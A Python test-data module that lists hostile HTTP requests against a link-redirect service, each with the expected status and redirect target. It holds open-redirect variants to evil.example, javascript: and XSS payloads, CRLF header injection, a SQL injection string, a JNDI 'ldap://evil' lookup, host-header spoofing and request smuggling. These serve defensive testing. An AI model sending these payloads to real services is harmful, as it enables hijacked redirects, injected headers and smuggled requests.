"""What a hostile visitor may send, byte for byte, and what has to come of it.

The links: `spring` leads to https://shop.example/landing; on brand.example the same code leads to
https://brand-shop.example/own, and codes that are unknown there to https://brand-shop.example/lost;
`ended` is archived and falls back to https://shop.example/ended.
"""

from typing import NamedTuple
from urllib.parse import quote_from_bytes

LANDING = "https://shop.example/landing"
BRAND = "https://brand-shop.example/own"
LOST = "https://brand-shop.example/lost"
ENDED = "https://shop.example/ended"
AGENT = b"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"


class Attack(NamedTuple):
    """statuses: of each answer. page: where the 302s lead, up to the query.

    unanswered: clicks that are stored although their sender broke off before the answer.
    """

    name: str
    request: bytes
    statuses: tuple[int, ...] = (302,)
    page: str = LANDING
    unanswered: int = 0


def asked(
    target: bytes, *lines: bytes, method: bytes = b"GET", host: bytes = b"go.example"
) -> bytes:
    """A request as a browser would send it, with these lines added to its header."""
    own = [] if any(line.lower().startswith(b"user-agent") for line in lines) else [AGENT]
    header = [b"Host: " + host, *(b"User-Agent: " + agent for agent in own), *lines]
    return b"\r\n".join([method + b" " + target + b" HTTP/1.1", *header, b"", b""])


def to(wanted: bytes) -> bytes:
    return asked(b"/r/spring?to=" + wanted)


def query(text: bytes) -> bytes:
    return asked(b"/r/spring?" + text)


def lost(code: bytes) -> bytes:
    return asked(b"/r/" + code, host=b"brand.example")


def sent(*lines: bytes) -> bytes:
    return asked(b"/r/spring", *lines)


UNKNOWN, REFUSED, METHOD = (404,), (400,), (405,)

DEEP_LINKS = [
    Attack("another host", to(b"//evil.example/")),
    Attack("another host, three slashes", to(b"///evil.example")),
    Attack("a backslash for a slash", to(b"/\\evil.example")),
    Attack("two backslashes", to(b"\\\\evil.example")),
    Attack("a tab that browsers drop", to(b"/%09/evil.example")),
    Attack("a line end that browsers drop", to(b"/%0a/evil.example")),
    Attack("a scheme", to(b"https://evil.example/")),
    Attack("a scheme without slashes", to(b"https:evil.example")),
    Attack("a scheme with three slashes", to(b"https:///evil.example")),
    Attack("a script", to(b"javascript:alert(1)")),
    Attack("a script with a tab in it", to(b"java%09script:alert(1)")),
    Attack("data", to(b"data:text/html,<script>alert(1)</script>")),
    Attack("an encoded slash", to(b"/%2Fevil.example")),
    Attack("encoded twice", to(b"/%252Fevil.example")),
    Attack("encoded four times", to(b"/%2525252Fevil.example")),
    Attack("an encoded backslash, twice", to(b"/%255cevil.example")),
    Attack("up and over", to(b"/..//evil.example")),
    Attack("up, encoded", to(b"/%2e%2e/")),
    Attack("up, with a parameter", to(b"/..;/admin")),
    Attack("a user before the host", to(b"@evil.example")),
    Attack("the end of our host", to(b".evil.example/")),
    Attack("a port that is none", to(b":80@evil.example/")),
    Attack("a second query", to(b"/x%3Fclick_id=stolen")),
    Attack("a fragment that hides the token", to(b"/x%23")),
    Attack("a broken escape", to(b"/%zz%")),
    Attack("a zero byte", to(b"/x%00.evil.example")),
    Attack("the line ends, a header follows", to(b"/x%0d%0aSet-Cookie:%20a=b")),
    Attack("fullwidth slashes", to(b"/%EF%BC%8F%EF%BC%8Fevil.example"), page=(
        "https://shop.example/%EF%BC%8F%EF%BC%8Fevil.example")),
    Attack("a fullwidth dot and an ideographic one", to(b"/%EF%BC%8E%E3%80%82/evil"), page=(
        "https://shop.example/%EF%BC%8E%E3%80%82/evil")),
    Attack("slashes in overlong UTF-8", to(b"/%C0%AF%C0%AFevil.example"), page=(
        "https://shop.example/%C0%AF%C0%AFevil.example")),
    Attack("a path that looks like a user", to(b"/@evil.example"), page=(
        "https://shop.example/@evil.example")),
    Attack("two of them, the second evil", asked(b"/r/spring?to=/a&to=//evil.example"), page=(
        "https://shop.example/a")),
    Attack("on an ended link", asked(b"/r/ended?to=//evil.example"), page=ENDED),
]  # fmt: skip

QUERIES = [
    Attack("a header in a value", query(b"x=%0d%0aLocation:%20https://evil.example")),
    Attack("a header in a name", query(b"%0d%0aSet-Cookie:a=b")),
    Attack("a bare line end", query(b"x=%0aSet-Cookie:a=b")),
    Attack("line ends as UTF-8 characters", query(b"x=%E5%98%8D%E5%98%8ASet-Cookie:a=b")),
    Attack("a zero byte in a value", query(b"x=%00&sub1=%00")),
    Attack("overlong UTF-8 in sub-ids", query(b"sub1=%C0%AE&sub2=%ED%A0%80&sub3=%FF")),
    Attack("escapes that are none", query(b"x=%&y=%g1&%zz=%1")),
    Attack("raw control bytes", query(b"x=\x01\x02"), REFUSED),
    Attack("raw Latin-1", query(b"x=\xe9\xff"), REFUSED),
    Attack("a raw tab", query(b"x=\ty"), REFUSED),
    Attack("8 kB", query(b"x=" + b"y" * 8_192)),
    Attack("64 kB", query(b"x=" + b"y" * 65_000)),
    Attack("500 keys", query(b"&".join(b"k%d=v" % number for number in range(500)))),
    Attack("nothing but separators", query(b"&" * 500 + b"=" * 500)),
    Attack("a click id of one's own", query(b"click_id=stolen")),
    Attack("many, in all spellings", query(b"click_id=a&CLICK_ID=b&click%5Fid=c&%63lick_id=d")),
    Attack("a click id behind a semicolon", query(b"x=1;click_id=stolen")),
    Attack("a value that is the destination's", query(b"plan=free&PLAN=free&pl%61n=free")),
    Attack("a sub-id that is the link's", query(b"sub1=stolen&sub1=again")),
    Attack("a script as sub-id", query(b"sub2=<script>alert(1)</script>'\"--")),
    Attack("a fragment", query(b"x=1#@evil.example"), (302,)),
    Attack("a question in the question", query(b"x=?//evil.example/?y=\\\\evil")),
]

CODES = [
    Attack("none", asked(b"/r/"), UNKNOWN),
    Attack("dots", asked(b"/r/.."), UNKNOWN),
    Attack("dots, encoded", asked(b"/r/%2e%2e"), UNKNOWN),
    Attack("dots that lead to the code", asked(b"/r/x/../spring"), UNKNOWN),
    Attack("another host", asked(b"/r//evil.example"), UNKNOWN),
    Attack("an address", asked(b"/r/https://evil.example"), UNKNOWN),
    Attack("an encoded slash", asked(b"/r/spring%2F..%2Fended"), UNKNOWN),
    Attack("a backslash", asked(b"/r/\\evil.example"), UNKNOWN),
    Attack("a zero byte", asked(b"/r/spring%00"), UNKNOWN),
    Attack("a line end, a header follows", asked(b"/r/spring%0d%0aSet-Cookie:a=b"), UNKNOWN),
    Attack("another case", asked(b"/r/SPRING"), UNKNOWN),
    Attack("a space behind it", asked(b"/r/spring%20"), UNKNOWN),
    Attack("emoji", asked("/r/🌱".encode()), REFUSED),
    Attack("emoji, encoded", asked(b"/r/" + quote_from_bytes("🌱".encode()).encode()), UNKNOWN),
    Attack("bytes that are no UTF-8", asked(b"/r/%ff%fe%ed%a0%80"), UNKNOWN),
    Attack("10 kB", asked(b"/r/" + b"x" * 10_000), UNKNOWN),
    Attack("a reserved word", asked(b"/r/admin"), UNKNOWN),
    Attack("SQL", asked(b"/r/spring'%20OR%201=1--"), UNKNOWN),
    Attack("a template", asked(b"/r/%7B%7B7*7%7D%7D$%7Bjndi:ldap://evil%7D"), UNKNOWN),
    Attack("the code, encoded", asked(b"/r/%73pring")),
    Attack("a host in front of the code", asked(b"/r/brand.example/spring"), UNKNOWN),
]

HOSTS = [
    Attack("none", b"GET /r/spring HTTP/1.1\r\nUser-Agent: " + AGENT + b"\r\n\r\n"),
    Attack("empty", asked(b"/r/spring", host=b"")),
    Attack("another's", asked(b"/r/spring", host=b"evil.example")),
    Attack("two, the second evil", sent(b"Host: evil.example")),
    Attack("a port", asked(b"/r/spring", host=b"brand.example:8000"), page=BRAND),
    Attack("capitals", asked(b"/r/spring", host=b"BRAND.Example"), page=BRAND),
    Attack("a user", asked(b"/r/spring", host=b"evil.example@brand.example")),
    Attack("a dot behind it", asked(b"/r/spring", host=b"brand.example."), page=BRAND),
    Attack("a code that is lost there", lost(b"nope?to=//evil.example&click_id=a"), page=LOST),
    Attack("a lost code that breaks lines", lost(b"%0d%0aSet-Cookie:a=b?%0d%0a"), page=LOST),
    Attack("no code at all there", lost(b"/evil.example/%2e%2e"), page=LOST),
    Attack("nothing but a port", asked(b"/r/spring", host=b":80")),
    Attack("IPv6", asked(b"/r/spring", host=b"[::1]:8000")),
    Attack("IPv6 that never ends", asked(b"/r/spring", host=b"[::1")),
    Attack("a slash into our keys", asked(b"/r/spring", host=b"brand.example/spring?")),
    Attack("a zero byte", asked(b"/r/spring", host=b"brand.example\x00"), REFUSED),
    Attack("Latin-1", asked(b"/r/spring", host=b"\xe9.example")),
    Attack("10 kB", asked(b"/r/spring", host=b"x." * 5_000)),
    Attack("an absolute target", asked(b"http://evil.example/r/spring")),
    Attack("forwarded", sent(b"X-Forwarded-Host: evil.example", b"Forwarded: host=evil.example")),
    Attack("rewritten", sent(b"X-Original-URL: //evil.example", b"X-Rewrite-URL: /admin")),
]

HEADERS = [
    Attack("no agent", sent(b"User-Agent:")),
    Attack("an agent with a zero byte", sent(b"User-Agent: a\x00b"), REFUSED),
    Attack("an agent in Latin-1", sent(b"User-Agent: M\xfcller \xff\xfe \xed\xa0\x80")),
    Attack("an agent that moves the terminal", sent(b"User-Agent: \x1b[2J\x07"), REFUSED),
    Attack("an agent of 64 kB", sent(b"User-Agent: " + b"a-" * 32_768)),
    Attack("an agent that no pattern ends", sent(b"User-Agent: " + b"Safari." * 70 + b"x" * 400)),
    Attack("an agent with a script", sent(b"User-Agent: <script>alert(1)</script>${jndi:x}")),
    Attack("two agents", sent(b"User-Agent: one", b"User-Agent: two")),
    Attack("a referrer that is none", sent(b"Referer: javascript:alert(1)//%00\xff")),
    Attack("a referrer of 64 kB", sent(b"Referer: https://x.example/" + b"y" * 65_000)),
    Attack("a folded line", sent(b"Referer: https://x.example/", b" Set-Cookie: a=b"), REFUSED),
    Attack("fetched for nothing", sent(b"Sec-Fetch-Dest: \xff;;=document", b"Sec-GPC: 1;1")),
    Attack("fetched ahead, and how", sent(b"Sec-Purpose: \xffPREFETCH;;;\x80"), (503,)),
    Attack("an address in front of ours", sent(b"X-Forwarded-For: 203.0.113.7, 127.0.0.1")),
    Attack("5,000 hops", sent(b"X-Forwarded-For: " + b"203.0.113.7," * 5_000)),
    Attack(
        "hops that are none", sent(b"X-Forwarded-For: unknown, _hidden, -, ,,, 1.2.3, 999.1.1.1")
    ),
    Attack("hops in brackets", sent(b"X-Forwarded-For: [::1]:80, [2001:db8::1, ]:[, [[::]]")),
    Attack("a hop with a script", sent(b"X-Forwarded-For: <script>alert(1)</script>")),
    Attack("a hop with a zone", sent(b"X-Forwarded-For: fe80::1%eth0/64, ::ffff:1.2.3.4:99")),
    Attack("a hop in Latin-1", sent(b"X-Forwarded-For: \xb2\xb3.\xb9.1.1")),
    Attack("64 kB of one hop", sent(b"X-Forwarded-For: " + b"1" * 65_000)),
    Attack("many such headers", sent(*[b"X-Forwarded-For: 203.0.113.7"] * 300)),
    Attack("a country that is none", sent(b"CF-IPCountry: <script>")),
    Attack("1,000 headers", sent(*[b"X-%d: y" % number for number in range(1_000)])),
    Attack("a header without a value", sent(b"X-Empty:")),
    Attack("a header without a colon", sent(b"X-Nothing"), REFUSED),
    Attack("a header without a name", sent(b": value"), REFUSED),
    Attack("a space before the colon", sent(b"X-Space : y"), REFUSED),
    Attack("cookies", sent(b"Cookie: ff=" + b"z" * 8_000)),
]

MESSAGES = [
    Attack("a body that is announced", sent(b"Content-Length: 5") + b"hello"),
    Attack("two lengths", sent(b"Content-Length: 5", b"Content-Length: 6") + b"hello", REFUSED),
    Attack("a length below nothing", sent(b"Content-Length: -1"), REFUSED),
    Attack("a body in chunks", sent(b"Transfer-Encoding: chunked") + b"5\r\nhello\r\n0\r\n\r\n"),
    Attack(
        "a request smuggled in a body",
        sent(b"Content-Length: 30", b"Transfer-Encoding: chunked") + b"0\r\n\r\n" + sent(),
        REFUSED,
    ),
    Attack("three requests at once", sent() * 3, (302, 302, 302)),
    Attack("a good one, then garbage", sent() + b"\x00\xff garbage\r\n\r\n", REFUSED, unanswered=1),
    Attack("HTTP/1.0", b"GET /r/spring HTTP/1.0\r\nUser-Agent: " + AGENT + b"\r\n\r\n"),
    Attack("HTTP/0.9", b"GET /r/spring\r\n\r\n"),
    Attack("HTTP/2 without asking", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", REFUSED),
    Attack("HTTP/9.9", b"GET /r/spring HTTP/9.9\r\nHost: go.example\r\n\r\n", REFUSED),
    Attack("TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 64, REFUSED),
    Attack("POST", asked(b"/r/spring", b"Content-Length: 0", method=b"POST"), METHOD),
    Attack("OPTIONS", asked(b"/r/spring", method=b"OPTIONS"), METHOD),
    Attack("TRACE", asked(b"/r/spring", method=b"TRACE"), METHOD),
    Attack("a method of one's own", asked(b"/r/spring", method=b"STEAL"), REFUSED),
    Attack("a method in small letters", asked(b"/r/spring", method=b"get"), REFUSED),
    Attack("another method in a header", sent(b"X-HTTP-Method-Override: DELETE")),
    Attack("HEAD", asked(b"/r/spring?to=//evil.example", method=b"HEAD")),
    Attack("an upgrade", sent(b"Connection: upgrade", b"Upgrade: websocket")),
    Attack("an upgrade to HTTP/2", sent(b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c")),
    Attack("expecting to go on", sent(b"Expect: 100-continue")),
    Attack("a range", sent(b"Range: bytes=0-0,5-,-1")),
    Attack("two slashes first", asked(b"//r/spring"), UNKNOWN),
    Attack("capitals in the prefix", asked(b"/R/spring"), UNKNOWN),
]

TABLE = {
    f"{part}: {attack.name}": attack
    for part, attacks in {
        "to": DEEP_LINKS,
        "query": QUERIES,
        "code": CODES,
        "host": HOSTS,
        "header": HEADERS,
        "message": MESSAGES,
    }.items()
    for attack in attacks
}
